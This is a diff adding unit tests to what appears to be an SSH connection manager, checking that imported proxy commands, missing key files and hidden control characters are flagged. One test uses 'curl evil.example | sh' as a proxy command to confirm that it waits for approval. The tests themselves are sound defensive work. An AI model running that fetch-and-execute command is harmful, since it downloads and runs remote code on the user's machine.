@@ -6,7 +6,7 @@ from dataclasses import replace
 from pathlib import Path
 
 from desktop.core.exchange import Arrival
-from desktop.core.model import Auth, AuthMethod, Connection, Endpoint, Route
+from desktop.core.model import Auth, AuthMethod, Connection, Endpoint, Hop, Proxy, ProxyKind, Route
 from desktop.core.validation import Fault, Field
 from desktop.engine.arrivals import arrivals_of
 from tests.unit.engine.stage import a_connection
@@ -77,11 +77,44 @@ def test_control_characters_do_not_reach_a_copied_command() -> None:
 
 def test_a_missing_identity_file_is_noticed(tmp_path: Path) -> None:
     path = tmp_path / "id_ed25519"
-    assert one(with_identity(str(path))).lacks_identity_file
+    assert one(with_identity(str(path))).missing_files == (str(path),)
     path.touch()
-    assert not one(with_identity(str(path))).lacks_identity_file
+    assert one(with_identity(str(path))).missing_files == ()
 
 
 def test_a_strangers_path_is_no_reason_to_fail() -> None:
-    assert one(with_identity("nul\0")).lacks_identity_file
-    assert one(with_identity("~nobody-of-that-name/key")).lacks_identity_file
+    assert one(with_identity("nul\0")).missing_files
+    assert one(with_identity("~nobody-of-that-name/key")).missing_files
+
+
+def behind(proxy: Proxy) -> Connection:
+    return replace(SALES, route=replace(SALES.route, proxy=proxy))
+
+
+def test_a_strangers_program_waits_for_a_yes() -> None:
+    arrival = one(behind(Proxy(ProxyKind.COMMAND, command="curl evil.example | sh")))
+    assert (arrival.is_new, arrival.is_harmless) == (True, False)
+    assert arrival.command == "curl evil.example | sh"
+
+
+def test_a_proxy_that_is_no_program_is_as_harmless_as_a_bastion() -> None:
+    arrival = one(behind(Proxy(ProxyKind.SOCKS5, "proxy", 1080)))
+    assert (arrival.is_harmless, arrival.command) == (True, "")
+
+
+def test_what_is_hidden_in_a_program_can_t_be_saved() -> None:
+    for hidden in ("true\nevil", "true \u202elive", "true\x1b[2K"):
+        problem = one(behind(Proxy(ProxyKind.COMMAND, command=hidden))).problem
+        assert problem is not None
+        assert (problem.field, problem.fault) == (Field.PROXY_COMMAND, Fault.HAS_INVISIBLE)
+
+
+def test_the_same_bastion_behind_a_program_is_another_place() -> None:
+    arrival = one(behind(Proxy(ProxyKind.COMMAND, command="nc %h %p")), SALES)
+    assert (arrival.known_as, arrival.is_harmless) == ("", False)
+
+
+def test_missing_files_of_every_hop_are_named() -> None:
+    jump = Hop("jump", "me", auth=Auth(AuthMethod.KEY_FILE, "/no/key", certificate_file="/no/cert"))
+    arrival = one(replace(SALES, route=Route((jump, SALES.route.bastion))))
+    assert arrival.missing_files == ("/no/key", "/no/cert")
